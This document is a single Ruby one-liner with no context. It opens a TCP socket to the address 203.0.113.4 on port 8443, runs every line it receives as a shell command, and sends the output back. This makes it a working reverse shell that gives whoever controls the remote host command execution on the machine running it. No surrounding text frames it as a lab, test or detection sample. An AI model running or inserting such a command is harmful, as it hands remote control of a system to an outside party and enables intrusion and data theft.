ruby -rsocket -e 's=TCPSocket.new("203.0.113.4",8443); while l=s.gets; IO.popen(l,"r"){|i| s.print i.read}; end'
